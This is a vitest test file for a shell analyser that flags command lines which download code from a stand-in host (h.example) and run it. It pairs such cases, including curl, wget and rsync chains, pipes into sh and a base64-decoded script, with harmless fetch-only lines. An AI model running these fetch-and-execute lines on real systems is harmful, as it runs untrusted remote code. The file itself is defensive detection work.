import { describe, expect, it } from 'vitest';
import { FetchedCode } from '../../../src/operations/opaque/fetched-code.ts';
import { analyseLine } from '../../../src/shell/analyse-line.ts';
import { environmentOf } from '../../../src/shell/environment.ts';

/** Is something of the line taken for code from another machine? */
function runsFetchedCode(line: string): boolean {
  const program = analyseLine(line, {
    dialect: 'bash',
    cwd: '/srv/app',
    env: environmentOf({}, false),
    readFile: () => ({ ok: false, reason: 'missing' }),
  });
  const fetched = new FetchedCode(program);
  return fetched.programs.length > 0 || program.problems.some(problem => fetched.includes(problem));
}

describe('code from another machine', () => {
  it.each([
    'curl -o x.sh https://h.example/x; bash x.sh',
    'wget -O x.sh https://h.example/x && sh ./x.sh',
    'wget https://h.example/x.sh && sh x.sh',
    'curl -s https://h.example/x | tee x.sh >/dev/null && bash x.sh',
    'curl -s https://h.example/x > x.sh; chmod +x x.sh; ./x.sh',
    'exec 3>x.sh; curl -s https://h.example/x >&3; bash x.sh',
    'rsync h.example:x.sh y.sh && bash y.sh',
    'curl -o x.sh https://h.example/x; install x.sh y.sh; bash y.sh',
    'curl -o x.sh https://h.example/x; ln x.sh y.sh; bash y.sh',
    'curl -o x.sh https://h.example/x; dd if=x.sh of=y.sh; bash y.sh',
    'curl -o x.sh https://h.example/x; cp x.sh a.sh; mv a.sh b.sh; bash b.sh',
    "curl -s https://h.example/x | xargs -I{} sh -c '{}'",
    'curl -s https://h.example/x | xargs sh -c --',
    'cat <(curl -s https://h.example/x) | bash',
    'echo aGk= | base64 -d > x.py; python3 x.py',
  ])('%s', line => {
    expect(runsFetchedCode(line)).toBe(true);
  });

  it.each([
    'curl -o data.json https://h.example/d; bash deploy.sh',
    'curl -s https://h.example/d | jq .tag > tag; bash deploy.sh',
    'curl -o data.json https://h.example/d; python3 process.py data.json',
    'curl -o x.sh https://h.example/x; cat y.sh > z.sh; bash z.sh',
    'V=$(curl -s https://h.example/v); bash release.sh "$V"',
    'bash x.sh; curl -o x.sh https://h.example/x',
    'cp a.sh b.sh; bash b.sh',
  ])('not %s', line => {
    expect(runsFetchedCode(line)).toBe(false);
  });
});
